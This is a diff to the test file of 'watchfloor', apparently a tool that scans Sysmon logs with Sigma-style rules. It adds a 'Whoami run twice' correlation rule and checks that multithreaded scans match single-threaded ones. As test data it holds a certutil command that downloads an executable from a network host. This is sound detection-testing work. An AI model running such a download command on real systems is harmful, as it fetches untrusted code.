@@ -42,6 +42,18 @@ detection:
   condition: selection and not admins
 `
 
+const CORRELATION = `title: Whoami run twice
+id: 7e5e8f7a-1c2d-4b3a-9f8e-000000000004
+level: high
+tags: [attack.discovery]
+correlation:
+  type: event_count
+  rules: [7e5e8f7a-1c2d-4b3a-9f8e-000000000002]
+  group-by: [Image]
+  timespan: 1h
+  condition: { gte: 2 }
+`
+
 const process = (n: number, image: string, commandLine: string, user = 'CORP\\alice') => ({
   EventID: 1,
   Channel: 'Microsoft-Windows-Sysmon/Operational',
@@ -56,6 +68,7 @@ beforeAll(() => {
   dir = mkdtempSync(path.join(tmpdir(), 'wf-scan-'))
   writeFileSync(path.join(dir, 'rules.yml'), RULE)
   writeFileSync(path.join(dir, 'placeholder.yml'), PLACEHOLDER_RULE)
+  writeFileSync(path.join(dir, 'correlation.yml'), CORRELATION)
   const lines = [
     process(1, 'C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://x/a.exe a.exe'),
     process(2, 'C:\\Windows\\System32\\whoami.exe', 'whoami', 'CORP\\adm_bob'),
@@ -147,6 +160,57 @@ describe('watchfloor scan (a real process)', () => {
     const missing = await scan('--', path.join(dir, 'no-such-file.jsonl'))
     expect(missing.code).toBe(3)
     expect(missing.stderr).toContain('no-such-file.jsonl')
+  })
+})
+
+describe('watchfloor scan --threads', () => {
+  it('matches files in worker threads with the findings, order, summary and correlations of one thread', async () => {
+    const run = (threads: string) =>
+      runCli([
+        'scan',
+        '--no-progress',
+        '--format',
+        'jsonl',
+        '--threads',
+        threads,
+        '--rules',
+        path.join(dir, 'rules.yml'),
+        path.join(dir, 'correlation.yml'),
+        '--',
+        path.join(dir, 'events.jsonl'),
+        path.join(dir, 'more.json.gz'),
+        path.join(dir, 'quiet.jsonl'),
+      ])
+    const [one, two] = [await run('1'), await run('2')]
+    expect([one.code, two.code]).toEqual([1, 1])
+    const titles = (stdout: string) =>
+      stdout
+        .trim()
+        .split('\n')
+        .map((line) => (JSON.parse(line) as { title: string }).title)
+    // The correlation needs a whoami of events.jsonl and one of more.json.gz, read by different
+    // threads (its base rule's own matches are not reported: the correlation has no `generate`).
+    expect(titles(two.stdout)).toEqual(['Certutil download', 'Whoami run twice'])
+    expect(two.stdout).toBe(one.stdout)
+    const summary = (stderr: string) => stderr.replace(/\([\d.]+ s\)/, '')
+    expect(summary(two.stderr)).toBe(summary(one.stderr))
+    expect(two.stderr).toContain('2 findings in 5 events')
+  })
+
+  it('reports rule errors once and exits 2 when no rule loaded, as one thread does', async () => {
+    const result = await runCli([
+      'scan',
+      '--no-progress',
+      '--threads',
+      '2',
+      '--rules',
+      path.join(dir, 'placeholder.yml'),
+      '--',
+      dir,
+    ])
+    expect(result.code).toBe(2)
+    expect(result.stderr.match(/rule error: .*admins/g)).toHaveLength(1)
+    expect((await scan('--threads', '0', '--', dir)).code).toBe(2)
   })
 })
 
